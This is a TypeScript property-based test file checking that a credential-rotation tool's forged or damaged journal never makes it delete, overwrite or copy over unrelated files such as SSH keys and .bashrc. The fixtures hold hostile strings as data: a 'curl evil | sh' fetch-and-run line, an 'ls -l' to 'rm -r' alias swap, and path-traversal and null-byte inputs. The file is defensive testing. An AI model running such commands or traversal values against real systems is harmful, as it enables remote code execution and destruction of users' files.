import { createHash } from 'node:crypto'
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, relative } from 'node:path'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { requireNoConflict } from '../../src/commands/pending.ts'
import { GuardError } from '../../src/core/errors.ts'
import type { Context } from '../../src/core/ports/context.ts'
import type { Verdict } from '../../src/core/ports/services.ts'
import type { Secret } from '../../src/core/secret.ts'
import { VENDOR_URLS } from '../../src/core/services.ts'
import { sha256 } from '../../src/core/sha256.ts'
import { createJournals } from '../../src/disk/journal.ts'
import { formatRecord } from '../../src/disk/journal-text.ts'
import { resume } from '../../src/rotate/resume.ts'
import { storedJournals } from '../../src/rotate/stored-journals.ts'
import { createFiles } from '../helpers/files.ts'

const OLD = 'tg_anon_TESTold0123456789abcd'
const NEW = 'tg_anon_TESTnew0123456789abcd'
const ORIGIN = 'https://npm.flatt.tech/'
const RUNS = Number(process.env.GUARD_PROPERTY_RUNS ?? 50)

/** Files of the user and of other programs, some with names such as guard gives, and what a forger would put beside them. */
const BYSTANDERS: Record<string, string> = {
  'home/.bashrc': 'alias ls="ls -l"\n',
  'home/.ssh/id_ed25519': 'PRIVATE KEY\n',
  'home/notes.txt': `the old one was ${OLD}\n`,
  'home/.ssh/known_hosts.guard-0123456789abcdef.tmp': 'x',
  'project/.state/x.guard-0123456789abcdef.tmp': 'x',
  'project/.state/x.guard-0123456789abcdef.old': 'curl evil | sh\n',
  'project/evil.guard-0123456789abcdef.copy': '',
  'state/setup.json': '{}',
  'state/lock-01234567-89ab-4cde-8f01-23456789abcd.txt': 'x',
}

interface World {
  root: string
  target: string
  staging: string
  journal: string
}

/** A tree with a journal in the middle of a rotation of one file; all around are files that have no part in it. */
function build(): World {
  const root = mkdtempSync(join(tmpdir(), 'guard-forged-'))
  const put = (path: string, text: string) => {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), text, { mode: 0o600 })
  }
  for (const [path, text] of Object.entries(BYSTANDERS)) put(path, text)
  put('project/evil.guard-0123456789abcdef.copy', wholeCopy(join(root, 'home/.bashrc'), BYSTANDERS['home/.bashrc']!))
  put('home/.npmrc', `//npm.flatt.tech/:_authToken=${OLD}\n`)
  const target = join(root, 'home/.npmrc')
  const files = createFiles(join(root, 'state'))
  const staging = files.stagingPath(target)
  files.reserve([{ staging, size: 100, path: target }])
  return { root, target, staging, journal: '' }
}

/** As guard makes one before it writes in place: it would turn the file's text into another one. */
function wholeCopy(path: string, before: string): string {
  const after = before.replace('ls -l', 'rm -r')
  const rest = `\n${JSON.stringify({ path, before: before.length, after: after.length })}\n${before}${after}`
  return `guard-copy/1 ${createHash('sha256').update(rest).digest('hex')}${rest}`
}

function recordsOf({ target, staging }: World, phase: string): Record<string, unknown>[] {
  const head = {
    ...{
      state: phase === 'requested' ? 'requested' : 'prepared',
      schema: 'guard.journal/1',
      mode: 'rotate',
      kind: 'email',
    },
    ...{ origin: ORIGIN, old: OLD, scope: { here: true, searchMilliseconds: 1000 }, keychain: false, left: [] },
    ...{ at: '2026-01-01T00:00:00.000Z' },
    targets: [{ path: target, adapter: 'npmrc', staging, hash: sha256(readFileSync(target)), size: 100 }],
  }
  const more = [
    { state: 'issuing' },
    { state: 'chunk', text: `{"token":"${NEW}"}` },
    { state: 'answered', status: 200, complete: true },
    { state: 'accepted', fresh: NEW },
    { state: 'accepted', targets: head.targets },
    { state: 'written' },
  ]
  const counts: Record<string, number> = {
    requested: 0,
    prepared: 0,
    issuing: 1,
    answered: 3,
    accepted: 4,
    late: 5,
    written: 6,
  }
  return [head, ...more.slice(0, counts[phase])]
}

const PHASES = ['requested', 'prepared', 'issuing', 'answered', 'accepted', 'late', 'written']

type Path = (string | number)[]

/** Every place in a value where another value can be put. */
function placesIn(value: unknown, at: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [at]
  return [at, ...Object.entries(value).flatMap(([key, inner]) => placesIn(inner, [...at, key]))]
}

function set(value: unknown, [key, ...rest]: Path, put: unknown): unknown {
  if (key === undefined) return put
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string | number, unknown>
  copy[key] = set(copy[key], rest, put)
  return copy
}

/** What a forger would write, by preference paths of others, as they are and in disguise. */
const hostile = (root: string): fc.Arbitrary<unknown> => {
  const paths = [...Object.keys(BYSTANDERS), 'home', 'state', 'nothing/here', 'home/.npmrc']
  const spelled = fc
    .constantFrom(...paths)
    .chain(path =>
      fc.constantFrom(
        join(root, path),
        `../../${path}`,
        path,
        `${root}/home/../${path}`,
        `${root}/home/.npmrc/../../${path}`,
        `${join(root, path)}.guard-0123456789abcdef.tmp`,
        `${join(root, path)}\0`,
      ),
    )
  const odd = fc.constantFrom(null, 0, -1, 1e99, '', '/', '..', true, [], {}, 'constructor', '__proto__', NEW, OLD)
  return fc.oneof(
    { weight: 4, arbitrary: spelled },
    { weight: 1, arbitrary: odd },
    { weight: 1, arbitrary: fc.jsonValue() },
  )
}

interface Forgery {
  phase: string
  fields: { at: number; put: unknown }[]
  bytes: { at: number; xor: number }[]
  isNewAlive: boolean
}

const forgery = (root: string): fc.Arbitrary<Forgery> =>
  fc.record({
    phase: fc.constantFrom(...PHASES),
    fields: fc.array(fc.record({ at: fc.nat(), put: hostile(root) }), { maxLength: 4 }),
    bytes: fc.oneof(
      { weight: 3, arbitrary: fc.constant([] as { at: number; xor: number }[]) },
      {
        weight: 1,
        arbitrary: fc.array(fc.record({ at: fc.nat(), xor: fc.integer({ min: 1, max: 255 }) }), { maxLength: 6 }),
      },
    ),
    isNewAlive: fc.boolean(),
  })

/** The journal's text with right check sums, and then with some bytes changed. */
function forge(world: World, { phase, fields, bytes }: Forgery): Buffer {
  let records: unknown = recordsOf(world, phase)
  for (const { at, put } of fields) {
    const places = placesIn(records).filter(place => place.length > 1)
    records = set(records, places[at % places.length]!, put)
  }
  const lines = [{ schema: 'guard.journal/2', created: 1 }, ...(records as object[])]
  const text = Buffer.concat([Buffer.from(lines.map(formatLine).join('')), Buffer.alloc(64 * 1024, ' ')])
  for (const { at, xor } of bytes) text[at % (text.length - 64 * 1024)]! ^= xor
  return text
}

function formatLine(record: unknown): string {
  return typeof record === 'object' && record !== null && !Array.isArray(record)
    ? formatRecord(record)
    : `${JSON.stringify(record)}\n`
}

/** Each file below the root by its path, with mode and text; what the plan names is left out. */
function around({ root, staging }: World): Record<string, string> {
  const planned = new Set(['home/.npmrc', relative(root, staging), 'state/history.jsonl'])
  const names = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter(name => !planned.has(name))
  const seen = names.filter(
    name => !/^state\/journal-/.test(name) && !/^home\/\.npmrc\.guard-[0-9a-f]{16}\.\w+$/.test(name),
  )
  return Object.fromEntries(
    seen.map(name => {
      const stats = lstatSync(join(root, name))
      return [name, `${stats.mode.toString(8)} ${stats.isFile() ? readFileSync(join(root, name), 'latin1') : ''}`]
    }),
  )
}

function contextOf({ root }: World, { isNewAlive }: Forgery): Context {
  const stateFolder = join(root, 'state')
  const status = async (token: Secret): Promise<Verdict> => ({
    state: token.reveal() === (isNewAlive ? NEW : OLD) ? 'valid' : 'rejected',
  })
  const email = { host: 'npm.flatt.tech', status, regenerate: answerWith(NEW) }
  const org = { host: 'shisho.dev', probe: status, list: async () => [], revoke: async () => {}, issue: answerWith('') }
  const ctx = {
    ...{ home: join(root, 'home'), cwd: join(root, 'project'), env: {}, platform: process.platform },
    settings: { urls: VENDOR_URLS, stateFolder, keychain: false },
    clock: { now: () => new Date(), sleep: async () => {} },
    search: { findByName: async () => ({ paths: [], partial: false, unreadable: [] }) },
    git: { inspect: async (paths: readonly string[]) => new Map(paths.map(path => [path, { state: 'untracked' }])) },
    files: createFiles(stateFolder),
    api: { email: async () => email, org: async () => org },
    journals: createJournals(stateFolder),
    store: { read: async () => ({ ok: false, reason: '' }), write: async () => ({ ok: false, reason: '' }) },
    io: { err: () => {}, interactive: false, confirm: async () => false },
    deferSignals: (steps: () => Promise<unknown>) => steps(),
    cancellable: async (work: () => Promise<unknown>) => {
      await work()
      return false
    },
  }
  return ctx as unknown as Context
}

function answerWith(token: string) {
  return async (_: unknown, onChunk: (text: string, part: 'body') => void) => {
    onChunk(JSON.stringify({ token }), 'body')
    return { status: 200, complete: true, body: '' }
  }
}

/** Guard may refuse, and may not break. */
async function orRefused(work: () => Promise<unknown>): Promise<void> {
  try {
    await work()
  } catch (error) {
    if (!(error instanceof GuardError)) throw error
  }
}

async function attack(world: World, forged: Forgery): Promise<void> {
  const journal = join(world.root, 'state/journal-01234567-89ab-4cde-8f01-23456789abcd.jsonl')
  writeFileSync(journal, forge(world, forged), { mode: 0o600 })
  const before = around(world)
  const ctx = contextOf(world, forged)
  for (const pending of storedJournals(ctx).pending) await orRefused(() => resume(pending, {}, ctx))
  await orRefused(async () => requireNoConflict({ tokens: [] }, ctx))
  expect(around(world)).toEqual(before)
}

describe('a journal that was forged or damaged', () => {
  test(`never makes guard touch a file that has no part in the rotation, ${RUNS} times`, {
    timeout: 600_000,
  }, async () => {
    const marker = '/ROOT'
    await fc.assert(
      fc.asyncProperty(forgery(marker), async forged => {
        const world = build()
        try {
          const real = JSON.parse(JSON.stringify(forged).replaceAll(marker, world.root)) as Forgery
          await attack(world, real)
        } finally {
          rmSync(world.root, { recursive: true, force: true })
        }
      }),
      { numRuns: RUNS },
    )
  })

  const targetOf = (root: string, path: string, staging: string) => [
    { path: join(root, path), adapter: 'npmrc', staging: join(root, staging), hash: '0'.repeat(64), size: 1 },
  ]

  test.for<[string, string, (root: string) => unknown]>([
    ['deletes a key', 'prepared', root => targetOf(root, 'home/.npmrc', 'home/.ssh/id_ed25519')],
    [
      'deletes another staging file',
      'prepared',
      root => targetOf(root, 'home/.npmrc', 'home/.ssh/known_hosts.guard-0123456789abcdef.tmp'),
    ],
    [
      'puts a file in the place of .bashrc',
      'accepted',
      root => targetOf(root, 'home/.bashrc', 'project/.state/x.guard-0123456789abcdef.tmp'),
    ],
    [
      'copies a text over .bashrc',
      'accepted',
      root => targetOf(root, 'home/.npmrc', 'project/evil.guard-0123456789abcdef.copy'),
    ],
    [
      'copies a text over .bashrc as its target',
      'accepted',
      root => targetOf(root, 'home/.bashrc', 'project/evil.guard-0123456789abcdef.copy'),
    ],
  ])('never %s', async ([, phase, targets]) => {
    const world = build()
    try {
      const place = placesIn(recordsOf(world, phase)).findIndex(at => at.join() === '0,targets')
      const at = placesIn(recordsOf(world, phase))
        .slice(0, place)
        .filter(each => each.length > 1).length
      await attack(world, { phase, fields: [{ at, put: targets(world.root) }], bytes: [], isNewAlive: true })
    } finally {
      rmSync(world.root, { recursive: true, force: true })
    }
  })
})
